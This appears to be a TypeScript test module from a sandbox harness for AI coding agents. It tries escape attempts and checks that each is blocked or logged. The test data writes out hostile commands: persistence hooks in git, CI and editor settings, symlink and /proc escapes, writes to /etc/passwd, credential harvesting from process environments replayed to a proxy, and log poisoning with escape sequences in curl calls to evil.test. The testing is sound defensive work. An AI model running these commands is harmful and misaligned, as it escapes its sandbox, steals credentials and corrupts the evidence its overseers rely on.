// Attempts 85 to 90: what is left for later, and what is written into the evidence.
// What runs on the machine later counts as detected where the record of the run names it; whatever else works got through.

import type { Attempt, Deed } from '../attempt.ts';
import { perl, requestTo, shell, tunnelTo } from './exchanges.ts';

const group = 'after the run';

/** What the machine would run later, without asking. */
const later = [
  '.git/hooks/pre-commit',
  '.vscode/tasks.json',
  '.envrc',
  'Makefile',
  '.github/workflows/kit.yml',
  '.claude/settings.json',
  'package.json',
] as const;

const leftForLater: Deed = async ({ run, records }) => {
  const script = later
    .map((file) => `mkdir -p "$(dirname ${file})" && printf '#!/bin/sh\\ntrue\\n' > ${file} && chmod +x ${file}`)
    .join('; ');
  const { code } = await run(`${script}; git config core.fsmonitor ./x`, 'jail');
  const text = JSON.stringify((await records()).filter(({ kind }) => kind === 'closed'));
  const unseen = [...later, '.git/config'].filter((file) => !text.includes(file));
  if (code !== 0) return { through: true, what: `they could not be written (${code})` };
  return unseen.length === 0
    ? { through: 'detected', what: `the record of the run names each of the ${later.length + 1} files` }
    : { through: true, what: `the record of the run does not name ${unseen.join(', ')}` };
};

/** Control characters and their like; what a terminal or a reader of lines would obey. */
// oxlint-disable-next-line no-control-regex
const commands = /[\u0000-\u0008\u000b-\u001f\u007f-\u009f\u2028\u2029\u202a-\u202e]/;

const poison: Deed = async ({ knock, sealwright, run, dataDir, records }) => {
  const escape = '\x1b[2J\x1b]0;kit\x07';
  const inShell = String.raw`curl -s -A "$(printf '\033[2Jkit\r\n')" "http://$(printf 'a\033[2J').evil.test/"; curl -s -A "$(printf '\033[31mkit')" http://evil.test/`;
  await run(`{ ${inShell}; } >/dev/null 2>&1; true`, 'jail');
  for (const target of [`${escape}.evil.test:443`, 'a"},{"x":"y.evil.test:443', 'a%0aevil.test:443'])
    await knock('network', { parts: [tunnelTo(target)], patienceMs: 500 });
  await knock('network', { parts: [requestTo('http://evil.test/', `User-Agent: ${escape}\r\n`)], patienceMs: 500 });
  const before = (await records()).length;
  const [search, show, verify] = [
    await sealwright(['audit', 'search', '--data', dataDir, '--limit', '1000']),
    await sealwright(['audit', 'show', '--last', '--data', dataDir]),
    await sealwright(['audit', 'verify', '--data', dataDir]),
  ];
  const obeyed = [search, show, verify].some(({ text }) => commands.test(text));
  return {
    through: obeyed || verify.code !== 0 || before === 0,
    what: `${before} records are there and verify (${verify.code}); what is shown ${obeyed ? 'obeys' : 'holds no command'}`,
  };
};

const linked: Deed = async ({ run, dataDir, control }) => {
  const tries = [
    `ln -s '${dataDir}' kit-link && ls kit-link/private kit-link/ledger`,
    `ln '${control}' kit-hard`,
    `ls '${dataDir}'`,
    `ls /proc/1/root'${dataDir}'`,
    `ls "/proc/self/cwd/../../..${dataDir}"`,
    `ln -s /etc/passwd kit-passwd && echo x >> kit-passwd`,
    `mount --bind '${dataDir}' /tmp`,
  ];
  const script = tries.map((each, index) => `if { ${each}; } >/dev/null 2>&1; then echo way ${index}; fi`).join('; ');
  const { text } = await run(`${script}; rm -f kit-link kit-hard kit-passwd`, 'jail');
  const got = [...text.matchAll(/^way (\d+)$/gm)].map(([, index]) => tries[Number(index)]);
  return { through: got.length > 0, what: got.length === 0 ? `${tries.length} ways lead to nothing` : `works: ${got.join('; ')}` };
};

/** Whatever looks like a credential in all that can be read is shown to a door. */
const searched: Deed = async ({ run, knock }) => {
  const { text } = await run(
    `{ cat /proc/[0-9]*/environ; cat /proc/[0-9]*/cmdline; find / -xdev -type f -size -64k \\( -path '/run/*' -o -path '/tmp/*' -o -path '/etc/*' -o -path "$HOME/*" \\) -exec cat {} +; } 2>/dev/null | tr '\\0' '\\n' | grep -ao 'sw_[A-Za-z0-9_-]*' | sort -u`,
    'jail',
  );
  const found = text.split('\n').filter((line) => line.length > 10);
  for (const credential of found) {
    const authority = Buffer.from(`kit:${credential}`).toString('base64');
    const { status } = await knock('network', {
      parts: [tunnelTo('allowed.test:443').replaceAll('%%PROXY-AUTHORITY%%', authority)],
      patienceMs: 1_500,
    });
    if (status === 200) return { through: true, what: 'a credential that a door accepts lies in the jail' };
  }
  return { through: false, what: `${found.length} texts look like a credential, and no door accepts one` };
};

export const after: readonly Attempt[] = [
  {
    id: '85',
    group,
    what: 'files that run later outside the jail: hooks, settings, tasks, CI, build files',
    ways: [{ paths: ['host'], expected: 'detect', deed: leftForLater }],
  },
  {
    id: '86',
    group,
    what: 'links from the workspace to records, policies and sockets of the envelope',
    ways: [{ paths: ['host'], expected: 'deny', deed: linked }],
  },
  {
    id: '87',
    group,
    what: 'its own settings, and those of the system, are written over',
    ways: [
      {
        paths: ['jail'],
        expected: 'deny',
        variants: [
          ...['/etc/hosts', '/etc/passwd', '/bin/sh', '/run/sealwright/apt.conf', '/proc/sys/kernel/modprobe'].map((file) =>
            perl(file, () => `exit(open(F, '>>', '${file}') ? 0 : 1)`),
          ),
          ...['/etc/claude-code', '/etc/codex', '/etc/gemini-cli', '/etc', '/usr/bin', '/run/sealwright'].map((folder) =>
            perl(
              `a new file in ${folder}`,
              (mark) =>
                `my $made = mkdir('${folder}'); my $r = open(F, '>', '${folder}/${mark}'); unlink('${folder}/${mark}'); rmdir('${folder}') if $made; exit($r ? 0 : 1)`,
            ),
          ),
        ],
      },
    ],
  },
  {
    id: '88',
    group,
    what: 'credentials in the environment, the memory and the files of processes',
    ways: [
      { paths: ['host'], expected: 'deny', deed: searched },
      {
        paths: ['jail'],
        expected: 'deny',
        variants: [shell('a core', () => `[ "$(ulimit -c)" != 0 ] && [ "$(ulimit -Hc)" != 0 ] || exit 1`)],
      },
    ],
  },
  {
    id: '89',
    group,
    what: 'the evidence is poisoned: line ends, commands of terminals and JSON in names and fields',
    ways: [{ paths: ['host'], expected: 'deny', deed: poison }],
  },
  {
    id: '90',
    group,
    what: 'programs of another system: WSL, open, osascript',
    ways: [{ paths: ['jail'], expected: 'not applicable', missing: 'other system' }],
  },
];
